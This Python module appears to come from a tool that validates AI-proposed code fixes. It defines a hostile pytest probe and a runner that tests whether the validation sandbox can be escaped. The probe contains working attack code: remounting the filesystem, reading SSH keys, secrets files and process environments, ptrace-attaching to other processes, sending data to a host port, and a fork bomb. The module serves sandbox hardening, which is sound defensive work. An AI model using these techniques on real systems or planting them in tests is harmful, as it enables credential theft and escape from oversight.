"""The hostile test the sandbox probe sends through validation, and the script that runs it.

``HOSTILE_TEST`` is real pytest code, as a model could write it in a new test module. Every attack
that works is recorded as a finding; the test always fails with ``PROBE-FINDINGS <json>`` so the
verdict's output carries the list back. ``RUNNER`` runs ``validate_candidate`` (the product's
validation path) on a small project and prints the report; it is started as root or as an
unprivileged user, with an optional bootstrap that puts the packages on ``sys.path`` the way the
Lambda runtime does for a layer (not through ``PYTHONPATH``).
"""

from __future__ import annotations

HOSTILE_TEST = r'''
import ctypes
import json
import os
import signal
import socket
import time

import pytest

CONFIG = json.loads(__CONFIG__)
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x20000


def _err():
    return os.strerror(ctypes.get_errno())


def _mount_attacks(found, where):
    if libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None) == 0:
        found.append(f"{where}: remounted / read-write")
    for path in CONFIG["hidden"] + ["/tmp"]:
        if libc.umount2(path.encode(), MNT_DETACH) == 0:
            found.append(f"{where}: unmounted {path}")


def _reads(found):
    for label, path in (("selfheal secrets", CONFIG["secrets_file"]), ("ssh key", CONFIG["ssh_key"])):
        try:
            with open(path, encoding="utf-8") as fh:
                text = fh.read()
        except OSError:
            continue
        if CONFIG["marker"] in text:
            found.append(f"read the {label} at {path}")
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as fh:
                if CONFIG["marker"].encode() in fh.read():
                    found.append(f"read the secret in /proc/{entry}/environ")
        except OSError:
            continue


def _writes(found):
    for path in (CONFIG["host_marker"], os.path.join(CONFIG["selfheal_home"], "planted.txt")):
        try:
            with open(path, "w", encoding="utf-8") as fh:
                fh.write("escaped")
        except OSError:
            continue
        # A private /tmp or an empty directory over a hidden one takes the write: the caller
        # checks the host. Recorded here for the report only.
        print("wrote (inside the sandbox)", path)


def _other_runs(found):
    # Another test run of this validation (the run before the patch, say), visible and of our
    # uid, can be traced, signalled or stalled. It is recognised by this very module in its
    # working tree (the marker is unique to the probe); looked for over a while so that a run
    # that starts at the same moment is seen.
    uid, mine = os.getuid(), set()
    pid = os.getpid()
    while pid > 0 and pid not in mine:  # this run: the test process and what started it
        mine.add(pid)
        try:
            with open(f"/proc/{pid}/stat", encoding="utf-8") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    deadline = time.monotonic() + 1.5
    while time.monotonic() < deadline:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in mine:
                continue
            try:
                if os.stat(f"/proc/{entry}").st_uid != uid:
                    continue
                with open(f"/proc/{entry}/cwd/tests/test_probe.py", encoding="utf-8") as fh:
                    if CONFIG["marker"] not in fh.read():
                        continue
            except OSError:
                continue
            found.append(f"saw another test run of this validation: pid {entry}")
            return
        time.sleep(0.05)


def _ptrace(found):
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        pid = int(entry)
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            found.append(f"ptrace-attached to pid {pid} ({open(f'/proc/{pid}/cmdline', 'rb').read()[:60]!r})")
            os.kill(pid, signal.SIGCONT)
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH


def _network(found):
    try:
        with socket.create_connection(("127.0.0.1", CONFIG["port"]), timeout=3) as conn:
            conn.sendall(b"exfiltrated")
            found.append(f"reached 127.0.0.1:{CONFIG['port']} of the host")
    except OSError:
        pass


def _nested_userns(found):
    pid = os.fork()
    if pid == 0:
        sub = []
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            _mount_attacks(sub, "in a nested user namespace")
        os.write(1, (json.dumps(sub) + "\n").encode())
        os._exit(3 if sub else 0)
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) == 3:
        found.append("mount attack worked from a nested user namespace")


def _fork_bomb(found):
    children = []
    try:
        for _ in range(CONFIG["fork_limit"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    except OSError as exc:
        print("fork stopped after", len(children), exc)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)
    if len(children) >= CONFIG["fork_limit"]:
        found.append(f"forked {len(children)} processes: no process limit")


def test_escape():
    found = []
    print("uid", os.getuid())
    _other_runs(found)
    _mount_attacks(found, "directly")
    _nested_userns(found)
    _reads(found)
    _writes(found)
    _ptrace(found)
    _network(found)
    _fork_bomb(found)
    pytest.fail("PROBE-FINDINGS " + json.dumps(found))
'''

RUNNER = r'''
import json
import os
import sys

print("RUNNER-PID", os.getpid(), flush=True)  # selfheal's own process, which must stay untraceable

config = json.loads(open(sys.argv[1], encoding="utf-8").read())
sys.path[:0] = config["bootstrap_path"]  # the layer and the task root, as Lambda's bootstrap adds them

from pathlib import Path

from selfheal.adapters.local_git import LocalGitRepository
from selfheal.domain.edit_format import parse_reply
from selfheal.domain.fixing import FixContext
from selfheal.settings import Settings
from selfheal.validation import sandbox
from selfheal.validation.service import BaselineCache, validate_candidate

if config.get("fallback"):  # the control: the old mechanism, which the probe must catch
    sandbox._probe_result = sandbox._probe(use_bwrap=False)

repo = LocalGitRepository(Path(config["project"]))
revision = repo.resolve("HEAD")
context = FixContext(fingerprint="f" * 64, exc_type="ZeroDivisionError", message="division by zero",
                     trace="ZeroDivisionError: division by zero\n", offered_files=["calc/stats.py"])
proposal = parse_reply(config["reply"], ["calc/stats.py"])
settings = Settings.model_validate({"home": config["selfheal_home"],
                                    "test_command": ["python", "-m", "pytest", "-q"],
                                    "test_timeout_seconds": 120.0, "sandbox_max_processes": config["nproc"]})
report = validate_candidate(repo, revision, context, proposal, settings, cache=BaselineCache())
print("REPORT " + report.model_dump_json())
'''
